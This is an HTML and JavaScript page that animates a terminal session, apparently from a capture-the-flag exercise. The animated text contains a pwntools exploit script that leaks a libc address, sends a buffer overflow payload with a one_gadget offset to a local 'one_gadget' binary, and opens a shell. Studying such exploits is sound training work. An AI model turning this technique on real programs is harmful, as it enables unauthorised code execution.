
An HTML page for the animation above (9200 ms loop, 1001 px wide and 462 px high).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1e1e1e; }
  svg, pre, #cursor { position: absolute; left: 0; top: 0; }
  svg text { font: 11.2px "Liberation Sans", Arial, sans-serif; }
  pre {
    left: 1px; top: 26px; margin: 0; color: #f4f4f4;
    font: 15px/21px "Noto Sans Mono", monospace; font-variant-ligatures: none;
    -webkit-text-stroke: .35px;
  }
  #cursor { width: 9px; height: 21px; }
  .m { color: #f050f0; font-weight: bold; }
  .c { color: #45c0e6; }
  .r { color: #ff5f5f; }
  .d { color: #ff5f5f; font-weight: bold; }
  .g { color: #18ac6c; }
  .p { color: #1fd98b; font-weight: bold; }
  .y { color: #bfb81e; }
  .b { color: #2fb0e0; }
  .h, .k { display: inline-block; height: 21px; margin-top: -1px; padding-top: 1px; box-sizing: border-box; vertical-align: top; }
  .h { background: #45c0e6; }
  .k { color: #77727f; background: #b8b4c2; }
</style>
</head>
<body>
<svg width="1001" height="21">
  <defs>
    <linearGradient id="dark" x2="0" y2="1"><stop stop-color="#484848"/><stop offset="1" stop-color="#1e1e1e"/></linearGradient>
    <linearGradient id="light" x2="0" y2="1"><stop stop-color="#e2e2e2"/><stop offset="1" stop-color="#fafafa"/></linearGradient>
    <g id="key">
      <path d="M.5 2.500h14v13H.5z" fill="#303030" stroke="#a8a8a8"/>
      <path d="M6 7l6 6M9 11l-1.500 1.500" stroke="#f2c230" stroke-width="2"/>
      <circle cx="5.500" cy="6.500" r="2.700" fill="#f2c230"/>
    </g>
    <path id="close" d="M-3.500-3.500l7 7m0-7l-7 7"/>
  </defs>
  <path d="M0 0h1001v20.500H0z" fill="#fff"/>
  <path d="M1 20.500L12 0H38L48 20.500z" fill="url(#light)" stroke="#b4b4b4"/>
  <path d="M288 20.500L298 0H520L531 20.500z" fill="url(#light)" stroke="#b4b4b4"/>
  <path d="M47 21L57 0H279L290 21z" fill="url(#dark)"/>
  <path d="M531 1.500H557L564 16H538z" fill="#dfe7ec" stroke="#a9b4bc"/>
  <path d="M546 4h4v3h3v4h-3v3h-4v-3h-3V7h3z" fill="#fff" stroke="#98a4ac"/>
  <path d="M19 8h12v9H19z" fill="#e6eaf0" stroke="#8a94a8"/>
  <path d="M23 11h4v6h-4z" fill="#d83a20"/>
  <path d="M16.500 9.500L25 2.500l8.500 7" fill="none" stroke="#d83a20" stroke-width="2.500"/>
  <use href="#key" x="57"/>
  <use href="#key" x="297"/>
  <use href="#close" x="269" y="8.500" stroke="#c8c8c8"/>
  <use href="#close" x="509" y="8.500" stroke="#fff"/>
  <text x="76" y="13" fill="#fff">2. fzkad.ew82-deck.top (tern)</text>
  <text x="316" y="13" fill="#111">7. fzkad.ew82-deck.top (tern)</text>
</svg>
<pre id="screen"></pre>
<div id="cursor"></div>
<svg width="1001" height="462">
  <g id="beam" fill="none">
    <path d="M-2-6.500h6M1-6.500v13M-2 6.500h6" stroke="#000" stroke-width="5" stroke-linejoin="round"/>
    <path d="M-3-6.500h2.500M.5-6.500h2.500M0-6v12M-3 6.500h2.500M.5 6.500h2.500" stroke="#fff" stroke-width="1.500"/>
  </g>
  <path id="hand" d="M24-1v3l6 8h9l2-5v-6" fill="#fff" stroke="#000" stroke-width="1.300"/>
</svg>
<script>
const LOOP = 9200;
const PROMPT = "tern@dulvi00hen:~/typora/one_gadget# ";
const COMMAND = "python exp.py ";
const GREY = "#b8b4c2", WHITE = "#f2edf2";

// {x|text} puts text in a span of class x
const paint = text => text.replace(/\{(\w)\|(.*?)\}/g, '<span class="$1">$2</span>');

const editor = closing => `{m|from} pwn {m|import}*
o = process({r|'./one_gadget'})
elf = ELF({r|'./one_gadget'})
libc = elf.libc
scanf_offset = libc.sym[{r|'__isoc99_scanf'}]
scanf_addr = {c|int}(o.recv({r|12}), {r|16})
libc_base = scanf_addr - scanf_offset
{c|print} {c|hex}(libc_base)
one_gadget = libc_base + {r|0x4f2a5}
payload = {r|'a'}*{r|24} + p64(one_gadget)
o.sendline{h|(}payload{${closing}|)}
o.interactive()
` + "{b|~}\n".repeat(9);

const shell = typed => `${PROMPT}vim exp.py\n${PROMPT}${COMMAND.slice(0, typed)}\n`;
const starting = (mark, end) => `${shell(14)}[${mark}] {c|Starting} local process './one_gadget'${end}\n`;
const checks = (file, relro, stack) => `[{b|*}] ${file}
    Arch:     amd64-64-little
    RELRO:    ${relro}
    Stack:    ${stack}
    NX:       {g|NX enabled}
    PIE:      {g|PIE enabled}
`;
const started = starting("{p|+}", ": pid 11758");
const binary = started + checks("'/tern/typora/one_gadget/one_gadget'", "{g|Full RELRO}", "{r|No canary found}");
const session = binary
  + checks("u'/lib/x86_64-linux-gnu/libc-2.27.so'", "{y|Partial RELRO}", "{g|Canary found}")
  + "0x7efc1f944000\n[{b|*}] Switching to interactive mode\n{d|$} ";

const keys = [[2400, 0], [3600, 1], [4000, 4], [4200, 5], [4400, 7], [4600, 8], [4800, 9], [5000, 14]];

// time, text, cursor row, cursor column, cursor colour
const screens = [
  [0, editor("k")],
  [1200, editor("h")],
  ...keys.map(([at, typed]) => [at, shell(typed), 1, PROMPT.length + typed, GREY]),
  [5400, shell(14), 2, 0, GREY],
  [5600, starting("{b||}", "")],
  [5800, started],
  [6000, binary],
  [6200, session, 17, 2, WHITE],
  [6600, session + "ls", 17, 4, WHITE],
  [6800, session + "ls\ncore  exp.py  one_gadget  one_gadget.c\n{d|$} ", 19, 2, WHITE],
];

// time, x, y
const moves = [[0, 525.5, 267.5], [8200, 509, 263], [8400, 235, 187], [8600, 46, 69], [8800, 46, 19]];

const $ = id => document.getElementById(id);
const latest = (list, t) => list.findLast(item => item[0] <= t);
const show = (id, on) => $(id).style.visibility = on ? "visible" : "hidden";
let shown;

function draw() {
  const t = performance.now() % LOOP;
  const next = latest(screens, t);
  if (next !== shown) {
    shown = next;
    const [, text, row, col, colour] = next;
    $("screen").innerHTML = paint(text);
    show("cursor", colour);
    if (colour) {
      $("cursor").style.transform = `translate(${1 + 9 * col}px, ${25 + 21 * row}px)`;
      $("cursor").style.background = colour;
    }
  }
  const [, x, y] = latest(moves, t);
  $("beam").setAttribute("transform", `translate(${x} ${y})`);
  show("beam", t < 9000);
  show("hand", t >= 9000);
  requestAnimationFrame(draw);
}
draw();
</script>
</body>
</html>
```
